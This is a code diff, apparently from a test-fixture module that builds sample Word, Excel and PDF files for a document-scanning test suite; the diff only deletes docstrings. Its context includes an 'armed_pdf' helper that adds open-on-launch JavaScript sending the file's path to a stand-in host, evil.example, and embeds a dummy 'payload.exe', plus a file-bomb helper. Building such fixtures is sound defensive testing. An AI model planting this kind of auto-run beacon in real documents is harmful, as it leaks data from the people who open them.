@@ -87,7 +87,6 @@ def docx(
     more: Mapping[str, str | bytes] | None = None,
     external: Sequence[tuple[str, str]] = (),
 ) -> bytes:
-    """A Word document of paragraphs and tables; `more` are other parts, and its author is known."""
     core = (
         f'{HEAD}<cp:coreProperties xmlns:cp="{CORE[0]}" xmlns:dc="{CORE[1]}">'
         "<dc:creator>Maria Lopez</dc:creator></cp:coreProperties>"
@@ -139,7 +138,6 @@ def xlsx(
     states: Mapping[str, str] | None = None,
     more: Mapping[str, str | bytes] | None = None,
 ) -> bytes:
-    """An Excel workbook: name -> sheet; `states` names those that are hidden."""
     listed, targets, parts = [], [], {}
     for number, (name, content) in enumerate(sheets.items(), 1):
         state = (states or {}).get(name)
@@ -179,7 +177,6 @@ def bomb(name: str, megabytes: int, around: tuple[bytes, bytes]) -> bytes:
 
 
 def pdf(*pages: str, picture: bool = False) -> bytes:
-    """A PDF with these pages of text, one line each line; written by hand."""
     objects = ["<< /Type /Catalog /Pages 2 0 R >>", ""]
     kids = []
     for text in pages:
@@ -232,7 +229,6 @@ def _pdf(objects: Sequence[str]) -> bytes:
 
 
 def armed_pdf(text: str) -> bytes:
-    """A PDF with a script that runs when it is opened, and a file in it."""
     writer = PdfWriter(clone_from=io.BytesIO(pdf(text)))
     writer.add_open_action(JavaScript("app.launchURL('https://evil.example/?' + this.path)"))
     writer.add_attachment("payload.exe", b"MZ" + bytes(64))
